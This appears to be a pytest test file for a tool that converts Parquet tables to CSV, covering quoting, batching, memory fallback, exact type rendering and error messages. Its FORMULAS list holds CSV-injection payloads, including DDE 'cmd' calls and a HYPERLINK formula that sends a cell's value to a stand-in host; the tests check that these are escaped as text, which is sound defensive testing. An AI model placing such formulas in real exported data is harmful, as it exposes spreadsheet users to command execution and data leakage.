"""Tables become CSV by bytes, not by rows."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path

import numpy as np
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from compute.intake import csv_text
from compute.intake.csv_text import main, write_csv


def csv_of(path: Path, *, formulas_as_text: bool = False) -> bytes:
    out = io.BytesIO()
    write_csv(path, out, formulas_as_text=formulas_as_text)
    return out.getvalue()


def test_the_csv_of_a_table_reads_back_with_the_standard_library(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "make": pl.Series(["audi", 'say "hi", twice', None], dtype=pl.Categorical),
            "price": [1.5, None, -3.0],
            "sold": [datetime(2026, 1, 2, 3, 4, 5)] * 3,
        }
    )
    frame.write_parquet(tmp_path / "t.parquet")
    rows = list(csv.reader(io.StringIO(csv_of(tmp_path / "t.parquet").decode())))
    assert rows[0] == ["make", "price", "sold"]
    assert [row[:2] for row in rows[1:]] == [["audi", "1.5"], ['say "hi", twice', ""], ["", "-3.0"]]
    assert {row[2][:19] for row in rows[1:]} == {"2026-01-02T03:04:05"}


#: https://owasp.org/www-community/attacks/CSV_Injection, and what real columns hold.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://elsewhere.example?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "-",
    "--1",
    "+41 44 123 45 67",
]
NO_FORMULAS = ["", "audi", "a=b", "1=1", "-5", "+3.25", "-.5", "-1e-7", "'=1+1", "x@example.org", None]


def test_formulas_are_marked_as_text_on_request(tmp_path: Path) -> None:
    cells = [*FORMULAS, *NO_FORMULAS]
    frame = pl.DataFrame(
        {"=name": cells, "kind": pl.Series(cells, dtype=pl.Categorical), "number": [-1.5] * len(cells)}
    )
    frame.write_parquet(tmp_path / "t.parquet")

    marked = csv_of(tmp_path / "t.parquet", formulas_as_text=True).decode()
    rows = list(csv.reader(io.StringIO(marked, newline="")))
    expected = [*(f"'{cell}" for cell in FORMULAS), *(cell or "" for cell in NO_FORMULAS)]
    assert rows[0] == ["'=name", "kind", "number"]
    assert [row[0] for row in rows[1:]] == expected
    assert [row[1] for row in rows[1:]] == expected
    assert {row[2] for row in rows[1:]} == {"-1.5"}

    exact = csv_of(tmp_path / "t.parquet").decode()
    rows = list(csv.reader(io.StringIO(exact, newline="")))
    assert [row[0] for row in rows] == ["=name", *(cell or "" for cell in cells)]


def test_two_columns_may_have_the_same_name_once_marked(tmp_path: Path) -> None:
    pl.DataFrame({"=a": [1], "'=a": [2], "^.*$": ["=x"]}).write_parquet(tmp_path / "t.parquet")
    assert csv_of(tmp_path / "t.parquet", formulas_as_text=True) == b"'=a,'=a,^.*$\n1,2,'=x\n"


def test_an_empty_table_is_a_header(tmp_path: Path) -> None:
    pl.DataFrame({"a": [], "b": []}).write_parquet(tmp_path / "t.parquet")
    assert csv_of(tmp_path / "t.parquet") == b"a,b\n"


@pytest.mark.parametrize("batch_bytes", [2**40, 100_000, 5_000, 10])
@pytest.mark.parametrize("batch_rows", [(16_384, 1_024, 64, 4, 1), (7, 3, 1), (1,)])
def test_every_row_comes_once_and_in_its_order_however_small_the_batches_become(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, batch_bytes: int, batch_rows: tuple[int, ...]
) -> None:
    texts = [f"{number}:" + "x" * (number % 50 * 40) for number in range(300)]
    pl.DataFrame({"t": texts}).write_parquet(tmp_path / "t.parquet", row_group_size=90)
    monkeypatch.setattr(csv_text, "BATCH_BYTES", batch_bytes)
    monkeypatch.setattr(csv_text, "BATCH_ROWS", batch_rows)
    monkeypatch.setattr(csv_text, "PIECE_BYTES", 1_000)
    assert csv_of(tmp_path / "t.parquet").decode().splitlines() == ["t", *texts]


def test_a_batch_that_memory_refuses_is_read_in_smaller_ones(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pl.DataFrame({"n": range(100)}).write_parquet(tmp_path / "t.parquet")
    original = pq.ParquetFile.iter_batches
    asked: list[int] = []

    def iter_batches(file: pq.ParquetFile, size: int, **options: object) -> object:
        asked.append(size)
        if size > 10:
            raise MemoryError
        return original(file, size, **options)

    monkeypatch.setattr(pq.ParquetFile, "iter_batches", iter_batches)
    assert csv_of(tmp_path / "t.parquet").decode().split() == ["n", *map(str, range(100))]
    assert asked == [1_024, 64, 4]


def told(errors: str) -> dict[str, str]:
    found: dict[str, str] = json.loads(errors.strip().splitlines()[-1])
    return found


def infinite_time(path: Path) -> None:
    times = pa.array(np.array([2**63 - 1], dtype=np.int64)).cast(pa.timestamp("us"))
    pq.write_table(pa.table({"when": times}), path)


def noise(path: Path) -> None:
    path.write_bytes(bytes(range(256)) * 10)


def test_every_type_is_exact_text(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "integer": [2**63 - 1],
            "decimal": [Decimal("-12345678901234567890.10")],
            "double": [1e-320],
            "date": [date(9999, 12, 31)],
            "time": [time(1, 2, 3)],
            "duration": [timedelta(1, 1)],
            "binary": [b"\x00\xff"],
            "list": [[1.5, float("nan"), None]],
            "struct": [{"=a": date(2020, 1, 1)}],
            "null": pl.Series([None], dtype=pl.Null),
        }
    )
    frame.write_parquet(tmp_path / "t.parquet")
    for formulas_as_text in (False, True):
        text = csv_of(tmp_path / "t.parquet", formulas_as_text=formulas_as_text).decode()
        header, row = csv.reader(io.StringIO(text))
        assert dict(zip(header, row, strict=True)) == {
            "integer": "9223372036854775807",
            "decimal": "-12345678901234567890.10",
            "double": "1e-320",
            "date": "9999-12-31",
            "time": "01:02:03.000000000",
            "duration": "P1DT1S",
            "binary": "AP8=",
            "list": '[1.5, "NaN", null]',
            "struct": '{"=a": "2020-01-01"}',
            "null": "",
        }


def test_a_moment_beyond_the_calendar_is_text_too(tmp_path: Path) -> None:
    infinite_time(tmp_path / "t.parquet")
    assert csv_of(tmp_path / "t.parquet").decode().split() == ["when", str(np.datetime64(2**63 - 1, "us"))]


def test_what_is_no_table_is_a_sentence_before_the_first_byte(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    noise(tmp_path / "t.parquet")
    assert main([str(tmp_path / "t.parquet")]) == 1
    output, errors = capfd.readouterr()
    assert output == ""
    assert "no table that can be read" in told(errors)["message"]
